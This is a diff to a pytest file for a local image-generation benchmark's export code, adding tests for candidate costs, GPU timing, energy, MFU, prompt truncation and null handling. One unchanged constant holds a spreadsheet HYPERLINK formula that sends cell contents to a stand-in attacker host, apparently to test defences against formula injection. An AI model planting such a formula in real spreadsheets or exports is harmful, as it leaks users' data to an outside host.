@@ -7,13 +7,15 @@ from pathlib import Path
 from typing import Any
 
 import pyarrow.parquet as pq
+import pytest
 
+from local_bench.core.errors import LocalBenchError
 from local_bench.report.exports import write_exports
 from local_bench.runs.rundir import RunDir
 from local_bench.runs.settlement import books
 
 MakeRun = Callable[..., Path]
-NAMES = ("candidates", "verdicts", "scores", "settlement", "costs")
+NAMES = ("candidates", "verdicts", "scores", "settlement", "costs", "making", "cuts")
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
@@ -116,3 +118,68 @@ def test_the_same_ledger_gives_the_same_files(make_run: MakeRun) -> None:
     path = make_run()
     first = {p: p.read_bytes() for p in export(path)}
     assert {p: p.read_bytes() for p in export(path)} == first
+
+
+def test_candidates_say_how_they_were_made_and_what_they_cost_elsewhere(make_run: MakeRun) -> None:
+    path = make_run(on_gpus=True)
+    export(path)
+    rows = {(r["model"], r["task_id"], r["deliverable"]): r for r in parquet(path, "candidates")}
+    assert rows["alpha", "t2", 2]["batch_size"] == 4
+    assert rows["alpha", "t2", 2]["truncated"] == '{"clip": 6, "t5": 0}'
+    assert rows["alpha", "t2", 2]["cost_micro_usd"] is None
+    elsewhere = rows["some-api", "t1", 1]
+    assert elsewhere["cost_usd"] == Decimal("0.137406")
+    assert [elsewhere[name] for name in ("batch_size", "truncated", "height", "width")] == [None] * 4
+
+
+def test_figures_of_making_are_those_of_the_meter(make_run: MakeRun) -> None:
+    path = make_run(on_gpus=True)
+    export(path)
+    alpha, beta, elsewhere = parquet(path, "making")
+    assert (alpha["n_images"], alpha["n_made"], alpha["batch_sizes"], alpha["sizes"]) == (
+        3,
+        3,
+        '{"4": 3}',
+        '{"320x240": 3}',
+    )
+    assert alpha["s_per_image"] == pytest.approx(13.2 / 3)
+    assert alpha["images_per_gpu_hour"] == pytest.approx(3 * 3600 / 64.2)
+    assert alpha["image_micro_usd"] == round(64.2 * 500 / 3)  # 1.80 an hour is 500 micro-dollars a second
+    assert alpha["marginal_image_usd"] == Decimal("0.0022")
+    assert alpha["wh_per_image"] == pytest.approx(64.2 * 500 / 3600 / 3)
+    assert alpha["floor_s_per_image"] == pytest.approx(2100 / 790)
+    assert alpha["mfu"] == pytest.approx(2100 / 790 / 4.4)
+    assert beta["s_per_image"] == pytest.approx(2)
+    assert beta["no_floor"] == "no floor: its cache skips work"
+    assert [beta[name] for name in ("mfu", "floor_s_per_image", "flop_per_image")] == [None] * 3
+    assert elsewhere["image_micro_usd"] == 137_406
+    assert [elsewhere[name] for name in ("s_per_image", "wh_per_image", "mfu", "images_per_gpu_hour")] == [None] * 4
+    cut = {(r["model"], r["encoder"]): (r["n_prompts"], r["n_cut"], r["most_tokens"]) for r in parquet(path, "cuts")}
+    assert cut == {(model, e): (2, n, 3 * n) for model in ("alpha", "beta") for e, n in (("clip", 2), ("t5", 0))}
+
+
+def test_absent_counters_and_prices_are_null_and_never_nothing(make_run: MakeRun) -> None:
+    path = make_run(on_gpus=True, price=None)
+    with RunDir.open(path) as run:
+        run.ledger.write("UPDATE meter SET energy_mj = NULL WHERE phase = 'encode'")
+        run.ledger.write("UPDATE sessions SET device = 'an unheard-of device'")
+        run.ledger.write("UPDATE candidates SET cost_micro_usd = NULL")
+    export(path)
+    alpha, beta, elsewhere = parquet(path, "making")
+    assert alpha["wh_per_image"] is None  # a part of its time has no counter
+    assert alpha["marginal_wh_per_image"] is not None
+    assert beta["wh_per_image"] is not None
+    assert {row["image_micro_usd"] for row in (alpha, beta, elsewhere)} == {None}
+    assert alpha["no_floor"] == "no floor for this device"
+    rows = {r["model"]: r for r in parquet(path, "settlement") if r["scope"] == "run"}
+    assert rows["some-api"]["cost_unscored"] == "nobody says what its pictures cost"
+    assert rows["alpha"]["cost_unscored"] == "the price table has no row for the device"
+
+
+def test_an_impossible_timing_exports_nothing(make_run: MakeRun) -> None:
+    path = make_run(on_gpus=True)
+    with RunDir.open(path) as run:
+        run.ledger.write("UPDATE meter SET t1_ns = t0_ns + (t1_ns - t0_ns) / 2 WHERE phase = 'denoise'")
+        with pytest.raises(LocalBenchError, match=r"alpha: its 3 images were denoised and decoded in 7\.2 s"):
+            write_exports(run)
+    assert not (path / "exports").exists()
